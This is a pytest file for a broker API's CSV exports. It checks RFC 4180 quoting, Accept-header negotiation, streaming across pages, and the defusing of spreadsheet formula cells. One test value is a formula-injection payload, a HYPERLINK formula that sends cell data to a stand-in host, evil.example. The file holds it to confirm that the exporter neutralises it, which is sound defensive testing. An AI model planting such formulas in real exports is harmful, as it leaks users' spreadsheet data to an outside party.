"""``Accept: text/csv`` on the usage, leases, servers and events lists: a header row, RFC
4180 quoting, cells a spreadsheet cannot take for formulas, every page streamed."""

from __future__ import annotations

import csv
import io

import pytest

from broker import reaper
from broker.api import csvout
from broker.services import SERVICES
from shared.timefmt import format_ts
from tests.broker.estate_kit import assert_problem, base, enroll, estate, lease, new_pool, raw
from tests.conftest import T0, Broker

CSV = {"Accept": "text/csv"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A9)",
    'Quote "this", please',
]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


async def test_servers_as_csv_quote_per_rfc_4180_and_defuse_formulas(broker: Broker) -> None:
    est = await estate(broker)
    bought = await broker.purchase(est.id, "SO-1", 10)
    paris = await new_pool(broker, est, "Paris", [{"purchase_id": bought["id"], "count": 6}])
    for name in HOSTILE:
        await enroll(broker, est, paris["id"], name=name)
    r = await raw(broker, "GET", f"{base(est)}/servers", est.admin, headers=CSV)
    assert r.status == 200, r.text
    assert r.content_type == "text/csv"
    assert r.headers["Content-Disposition"] == f'attachment; filename="servers-{est.id}.csv"'
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.text.endswith("\r\n") and "\r\n" in r.text.split("\n", 1)[0] + "\n"
    rows = parse(r.text)
    assert rows[0] == ["id", "name", "kind", "pool_id", "enrolled_at", "last_seen_at", "in_use", "leases"]
    names = sorted(row[1] for row in rows[1:])
    assert names == sorted(
        [
            "'" + HOSTILE[0],
            "'" + HOSTILE[1],
            "'" + HOSTILE[2],
            "'" + HOSTILE[3],
            HOSTILE[4],
        ]
    )
    # RFC 4180: the quote inside a quoted cell is doubled, the comma kept inside the quotes.
    assert '"Quote ""this"", please"' in r.text
    assert all(row[2] == "server" and row[3] == paris["id"] for row in rows[1:])
    # JSON stays the default, and wins whenever the client ranks it first or higher.
    for accept in ("", "application/json", "application/json, text/csv", "text/csv;q=0.5, application/json"):
        r = await raw(broker, "GET", f"{base(est)}/servers", est.admin, headers={"Accept": accept} if accept else {})
        assert r.content_type == "application/json", accept
    r = await raw(
        broker, "GET", f"{base(est)}/servers", est.admin, headers={"Accept": "application/json;q=0.1, text/csv"}
    )
    assert r.content_type == "text/csv"


def test_every_formula_start_is_defused() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csvout.cell(start + "1+1") == "'" + start + "1+1"
    assert csvout.cell("Paris") == "Paris" and csvout.cell(None) == "" and csvout.cell(3) == "3"
    assert csvout.cell(-3) == "'-3"  # a negative number is text too: safer than a formula
    assert csvout.encode([["a,b", 'say "hi"', "line\nbreak"]]) == b'"a,b","say ""hi""","line\nbreak"\r\n'


async def test_events_csv_streams_every_page(broker: Broker, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csvout, "PAGE", 2)  # so that a handful of events spans several store reads
    est = await estate(broker)
    bought = await broker.purchase(est.id, "SO-1", 10)
    for n in range(4):
        await new_pool(broker, est, f"=Pool {n}", [{"purchase_id": bought["id"], "count": 1}])
    as_json = await broker.call("GET", f"{base(est)}/events?limit=500", est.admin, status=200)
    r = await raw(broker, "GET", f"{base(est)}/events?limit=1", est.admin, headers=CSV)
    assert r.status == 200 and r.content_type == "text/csv"
    assert r.headers["Content-Disposition"] == f'attachment; filename="events-{est.id}.csv"'
    rows = parse(r.text)
    assert rows[0][:3] == ["id", "at", "actor_kind"] and rows[0][-2:] == ["details", "hash"]
    assert [row[0] for row in rows[1:]] == [e["id"] for e in as_json["items"]]
    assert len(rows) - 1 == len(as_json["items"]) > 2 * 2
    created = [row for row in rows[1:] if row[5] == "pool.created"]
    assert len(created) == 4
    # The pool's name sits inside the details JSON, so the cell starts with "{": no prefix needed.
    assert all(row[8].startswith('{"name":"=Pool') for row in created)


async def test_leases_and_usage_as_csv(broker: Broker) -> None:
    est = await estate(broker)
    bought = await broker.purchase(est.id, "SO-1", 10)
    paris = await new_pool(broker, est, "Paris", [{"purchase_id": bought["id"], "count": 6}])
    server = await enroll(broker, est, paris["id"], name="@enc-host")
    await lease(broker, server["server_token"], "enc-1", 2)
    r = await raw(broker, "GET", f"{base(est)}/leases", est.admin, headers=CSV)
    rows = parse(r.text)
    assert rows[0] == [
        "id",
        "pool_id",
        "server_id",
        "server_name",
        "encoder",
        "licence_type",
        "count",
        "created_at",
        "renewed_at",
        "expires_at",
    ]
    assert rows[1][3:7] == ["'@enc-host", "enc-1", "one-in-one-out", "2"]
    await reaper.sample_usage(broker.client.app[SERVICES])
    broker.clock.advance(60)
    r = await raw(broker, "GET", f"{base(est)}/pools/{paris['id']}/usage", est.admin, headers=CSV)
    assert r.headers["Content-Disposition"] == f'attachment; filename="usage-{paris["id"]}.csv"'
    assert parse(r.text) == [
        ["at", "allocated", "in_use", "available"],
        [format_ts(T0), "6", "2", "4"],
        [format_ts(T0 + 60), "6", "2", "4"],
    ]
    r = await raw(broker, "GET", f"{base(est)}/usage?step=60", est.admin, headers=CSV)
    assert parse(r.text) == [
        ["licence_type", "at", "allocated", "in_use", "available"],
        ["one-in-one-out", format_ts(T0), "10", "2", "8"],
        ["one-in-one-out", format_ts(T0 + 60), "10", "2", "8"],
    ]
    # A bad request is still a problem, not a CSV.
    assert_problem(
        await raw(broker, "GET", f"{base(est)}/usage?step=1", est.admin, headers=CSV), 400, "validation_error"
    )


def test_the_openapi_document_has_the_usage_routes_and_the_csv_answers() -> None:
    from broker.api.openapi import document

    paths = document()["paths"]
    for path in (
        "/v1/estates/{estate}/pools/{pool}/usage",
        "/v1/estates/{estate}/usage",
        "/v1/estates/{estate}/leases",
        "/v1/estates/{estate}/servers",
        "/v1/estates/{estate}/events",
    ):
        content = paths[path]["get"]["responses"]["200"]["content"]
        assert set(content) == {"application/json", "text/csv"}, path
    usage = paths["/v1/estates/{estate}/pools/{pool}/usage"]["get"]
    assert {p["name"] for p in usage["parameters"]} == {"estate", "pool", "from", "to", "step"}
    assert "text/csv" not in paths["/v1/estates/{estate}/pools"]["get"]["responses"]["200"]["content"]
